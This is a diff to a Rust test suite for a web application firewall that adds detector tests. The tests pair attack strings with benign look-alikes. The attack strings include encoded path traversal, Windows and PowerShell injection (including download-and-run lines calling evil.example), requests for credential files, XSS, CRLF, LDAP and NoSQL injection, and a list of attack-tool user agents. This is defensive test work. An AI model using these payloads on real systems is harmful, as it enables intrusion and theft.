@@ -31,6 +31,14 @@ fn text_transformations() {
     check_transform(&[T::RemoveNulls], "a\0b", "ab");
     check_transform(&[T::NormalizePath], "/a/./b/../c//d", "/a/c/d");
     check_transform(&[T::NormalizePathWin], "\\a\\..\\b", "/b");
+    // Back-references at the beginning stay in a relative path, go in an absolute one.
+    check_transform(&[T::NormalizePath], "a/../../b/./c", "../b/c");
+    check_transform(&[T::NormalizePath], "/../../etc//passwd", "/etc/passwd");
+    check_transform(&[T::NormalizePathWin], "..\\..\\win.ini", "../../win.ini");
+    // URL_DECODE_UNI: full-width ASCII folds to ASCII, any other %u keeps its lower byte.
+    check_transform(&[T::UrlDecodeUni], "%uff0e%uFF0F%u0041", "./A");
+    check_transform(&[T::UrlDecodeUni], "a%u2215b", "a\u{15}b");
+    check_transform(&[T::Utf8ToUnicode], "a\u{2215}b\u{e9}", "a%u2215b%u00e9");
     // Order matters: each transformation feeds the next.
     check_transform(&[T::UrlDecode, T::Lowercase], "%53ELECT", "select");
     check_transform(&[T::Lowercase, T::UrlDecode], "%53ELECT", "Select");
@@ -193,8 +201,14 @@ const PLACES: [Place; 6] = [
 /// A value is blocked (or passed) in every place.
 #[track_caller]
 fn check_detect(value: &str, blocked: bool) {
+    check_detect_at(value, &PLACES, blocked);
+}
+
+/// A value is blocked (or passed) in each of `places`.
+#[track_caller]
+fn check_detect_at(value: &str, places: &[Place], blocked: bool) {
     let acl = WebAcl::default_for_distribution();
-    for place in PLACES {
+    for &place in places {
         assert_eq!(
             blocked_at(&acl, place, value),
             blocked,
@@ -402,4 +416,289 @@ fn session_fixation_and_uploads() {
     upload(&acl, "sess_abcdef0123456789", true);
     upload(&acl, "holiday.jpg", false);
     upload(&acl, "report.pdf", false);
+}
+
+/// Part two of the detectors (issue 22), one technique at a time, each with the ordinary text
+/// that looks like it, in the places its rules inspect.
+#[test]
+fn detectors_for_encodings_windows_files_scripts_and_injections() {
+    use Place::{Cookie, Form, Json, Query};
+    // Traversal with dots and slashes in unusual encodings, alone or mixed with plain ones:
+    // overlong UTF-8, IIS %u with full-width and look-alike code points, nested
+    // percent-encoding (the values below are sent percent-encoded once more).
+    for attack in [
+        "..%c0%af..%c0%af..%c0%afetc%c0%afpasswd",
+        "%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd",
+        "%e0%80%ae%e0%80%ae/%e0%80%ae%e0%80%ae/etc/hosts",
+        "%f0%80%80%ae%f0%80%80%ae%f0%80%80%afetc/passwd",
+        "..%c1%9c..%c1%9cboot.ini",
+        "%c0%2e%c0%2e%c0%2f%c0%2e%c0%2e%c0%2fetc/passwd",
+        "%252e%252e%252f%252e%252e%252fetc%252fpasswd",
+        "%25c0%25ae%25c0%25ae/%25c0%25ae%25c0%25ae/windows/win.ini",
+        "%%32%65%%32%65%%32%66%%32%65%%32%65%%32%66etc/passwd",
+        "%u002e%u002e%u2215%u002e%u002e%u2215boot.ini",
+        "%uff0e%uff0e%u2216%uff0e%uff0e%u2216windows%u2216win.ini",
+        "\u{ff0e}\u{ff0e}\u{ff0f}\u{ff0e}\u{ff0e}\u{ff0f}etc\u{ff0f}passwd",
+        "..\u{2215}..\u{2215}..\u{2215}etc\u{2215}shadow",
+        "..%5c..%5c..%5cwindows%5cwin.ini",
+        "<img src=\"../../../../etc/passwd\">",
+        "/etc/./passwd",
+        "/etc/.%2fshadow",
+        "c:\\windows\\.\\system32\\config\\sam",
+    ] {
+        check_detect(attack, true);
+    }
+    // Relative links in pasted markup and Markdown, and non-ASCII text.
+    for benign in [
+        "<a href=\"../\">up one level</a>",
+        "<p>See <a href='../../guide/'>the guide</a> and <a href=../../../faq.html>the FAQ</a></p>",
+        "See [the parent page](../) for details",
+        "東京\u{ff0f}大阪\u{ff0e}京都",
+        "café déjà vu, naïve façade",
+        "１／２ cup of sugar",
+    ] {
+        check_detect(benign, false);
+    }
+
+    // Windows command injection: cmd.exe built-ins on drive paths, system tools with switches,
+    // PowerShell one-liners.
+    for attack in [
+        "dir c:\\",
+        "| dir c:\\",
+        "& type C:\\Windows\\win.ini",
+        "ping.exe -n 3 127.0.0.1",
+        "& net user",
+        "&& whoami /all",
+        "cmd /c whoami",
+        "cmd.exe /k ver",
+        "powershell -enc SQBFAFgAKABOAGUAdwA=",
+        "powershell -nop -w hidden -c calc",
+        "IEX(New-Object Net.WebClient).DownloadString('http://evil.example/a.ps1')",
+        "Invoke-Expression $payload",
+        "iwr -Uri http://evil.example/a -OutFile a.exe",
+        "[System.Convert]::FromBase64String($s)",
+        "echo $env:TEMP",
+    ] {
+        check_detect(attack, true);
+    }
+    for benign in [
+        "dir",
+        "type",
+        "Type your message here",
+        "saved to C:\\Users\\ana\\Documents\\report.docx",
+        "Is notepad.exe safe to delete?",
+        "ping me when you are free",
+        "net user guide for beginners",
+        "I use PowerShell at work",
+        "Start a process for returns",
+    ] {
+        check_detect(benign, false);
+    }
+
+    // Sensitive files asked for by name, in the path and in values.
+    for attack in [
+        "/etc/shadow",
+        "boot.ini",
+        "C:\\boot.ini",
+        "c:\\inetpub\\wwwroot\\web.config",
+        "web.config",
+        ".git/config",
+        ".env",
+        ".htpasswd",
+        "~/.ssh/id_rsa",
+        ".aws/credentials",
+        "wp-config.php.bak",
+        "/root/.bash_history",
+        "config.php~",
+        "WEB-INF/web.xml",
+    ] {
+        check_detect(attack, true);
+    }
+    // A path that ends in `.config` is a request for such a file (RestrictedExtensions_URIPATH).
+    check_detect_at(
+        "how to write a web.config",
+        &[Query, Form, Json, Cookie, Place::Header],
+        false,
+    );
+    for benign in [
+        "environment.html",
+        ".env file format",
+        "edit your .htaccess file",
+        "boot.ini is a file on old Windows",
+        "my id is 42",
+    ] {
+        check_detect(benign, false);
+    }
+
+    // Script execution without a tag, and markup hidden in HTML entities.
+    for attack in [
+        "confirm.call(null,1)",
+        "alert.apply(null,[1])",
+        "(alert)(1)",
+        "(0,eval)('alert(1)')",
+        "alert?.(1)",
+        "alert/**/(1)",
+        "top['al'+'ert'](1)",
+        "window['ev'+'al']('x')",
+        "self[/al/.source+/ert/.source](1)",
+        "[].constructor.constructor('alert(1)')()",
+        "x['constructor']['constructor']('alert(1)')()",
+        "location='javascript:alert(1)'",
+        "&#x6A;avascript&colon;alert(1)",
+        "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
+        "&#60;svg onload=alert(1)&#62;",
+    ] {
+        check_detect(attack, true);
+    }
+    for benign in [
+        "I like alert systems and confirm my order",
+        "Object.keys(x).map(f)",
+        "fn.call(this, 1)",
+        "levels (alert) (warning) and (info)",
+        "obj['first'] + obj['last']",
+        "The constructor of the class takes two arguments",
+        "location = Lisbon",
+        "Use &lt;b&gt; for bold",
+    ] {
+        check_detect(benign, false);
+    }
+
+    // CR/LF header injection, in every place a value arrives.
+    for attack in [
+        "\r\nSet-Cookie: session=attacker",
+        "x\r\nLocation: http://evil.example/",
+        "%0d%0aSet-Cookie:%20a=b",
+        "x\n\nHTTP/1.1 200 OK",
+        "\u{560a}\u{560d}Set-Cookie: a=b",
+    ] {
+        check_detect(attack, true);
+    }
+    for benign in [
+        "Hello,\r\nLocation: Lisbon\r\nThanks",
+        "Line one\nline two",
+        "Set-Cookie is a response header",
+    ] {
+        check_detect(benign, false);
+    }
+
+    // LDAP and NoSQL injection: in the query, form, JSON body and cookies.
+    let args = [Query, Form, Json, Cookie];
+    for attack in [
+        "*)(uid=*))(|(uid=*",
+        "admin)(&)",
+        "*)(|(objectclass=*)",
+        "x)(|(password=*)",
+        "{\"$ne\": null}",
+        "{\"$regex\": \".*\"}",
+        "{\"$where\": \"sleep(1000)\"}",
+        "db.users.find({})",
+    ] {
+        check_detect_at(attack, &args, true);
+    }
+    for benign in [
+        "see section 5(a)(1) of the contract",
+        "Mr. Smith (CEO)(retired)",
+        "$5 off (today only)",
+        "{\"$schema\": \"http://json-schema.org/draft-07/schema#\"}",
+        "price > $gt",
+    ] {
+        check_detect_at(benign, &args, false);
+    }
+}
+
+/// MongoDB operators as argument names and JSON keys, and the names that are no operators.
+#[test]
+fn nosql_operators_in_names() {
+    let acl = WebAcl::default_for_distribution();
+    #[track_caller]
+    fn check(acl: &WebAcl, query: &str, json: &str, blocked: bool) {
+        let ua: &[(&str, &[u8])] = &[("User-Agent", b"Mozilla/5.0")];
+        if !query.is_empty() {
+            let v = acl.evaluate(&request("GET", "/login", query, ua, b""));
+            assert_eq!(v.is_blocked(), blocked, "{query}");
+        }
+        if !json.is_empty() {
+            let headers: &[(&str, &[u8])] = &[
+                ("User-Agent", b"Mozilla/5.0"),
+                ("Content-Type", b"application/json"),
+            ];
+            let v = acl.evaluate(&request("POST", "/login", "", headers, json.as_bytes()));
+            assert_eq!(v.is_blocked(), blocked, "{json}");
+        }
+    }
+    check(&acl, "user[$ne]=x&pass[$ne]=x", "", true);
+    check(&acl, "user%5B%24gt%5D=", "", true);
+    check(&acl, "a[$regex]=.*", "", true);
+    check(
+        &acl,
+        "",
+        r#"{"user": {"$ne": null}, "pass": {"$ne": null}}"#,
+        true,
+    );
+    check(
+        &acl,
+        "",
+        r#"{"user": "admin", "pass": {"$regex": "^a"}}"#,
+        true,
+    );
+    check(&acl, "", r#"{"$where": "this.password.length > 0"}"#, true);
+    check(&acl, "user[name]=ana&page[size]=20", "", false);
+    check(
+        &acl,
+        "",
+        r#"{"$schema": "x", "$id": "y", "price": {"amount": 5, "currency": "$"}}"#,
+        false,
+    );
+}
+
+/// Attack tools that name themselves in the User-Agent are blocked (`UserAgent_BadBots_HEADER`),
+/// a request without one too (`NoUserAgent_HEADER`); browsers, libraries and crawlers pass.
+#[test]
+fn user_agents() {
+    let acl = WebAcl::default_for_distribution();
+    #[track_caller]
+    fn check(acl: &WebAcl, ua: Option<&str>, rule: Option<&str>) {
+        let mut headers: Vec<(&str, &[u8])> = vec![("Host", b"shop.example.com")];
+        if let Some(ua) = ua {
+            headers.push(("User-Agent", ua.as_bytes()));
+        }
+        let v = acl.evaluate(&request("GET", "/", "", &headers, b""));
+        match rule {
+            Some(rule) => assert!(
+                v.is_blocked() && v.terminating_rule.ends_with(rule),
+                "{ua:?}: {}",
+                v.terminating_rule
+            ),
+            None => assert!(!v.is_blocked(), "{ua:?}: {}", v.terminating_rule),
+        }
+    }
+    for tool in [
+        "sqlmap/1.7.2#stable (https://sqlmap.org)",
+        "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000001)",
+        "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
+        "Fuzz Faster U Fool v2.1.0",
+        "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
+        "gobuster/3.6",
+        "WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)",
+        "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
+        "Mozilla/5.0 zgrab/0.x",
+        "Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 5.1; SV1) Havij",
+        "Mozilla/5.0 (Windows NT 10.0) AppleWebKit/537.36 Acunetix-Product",
+        "OpenVAS-VT 22.4",
+    ] {
+        check(&acl, Some(tool), Some("UserAgent_BadBots_HEADER"));
+    }
+    check(&acl, None, Some("NoUserAgent_HEADER"));
+    for ordinary in [
+        "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0 Safari/537.36",
+        "curl/8.5.0",
+        "python-requests/2.31.0",
+        "Go-http-client/1.1",
+        "urlgrabber/3.10 yum/3.4.3",
+        "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
+        "aws-sdk-rust/1.3.0 os/linux lang/rust/1.95.0",
+        "Boto3/1.34.0 md/Botocore#1.34.0 ua/2.0 os/linux#6.1 lang/python#3.11",
+    ] {
+        check(&acl, Some(ordinary), None);
+    }
 }
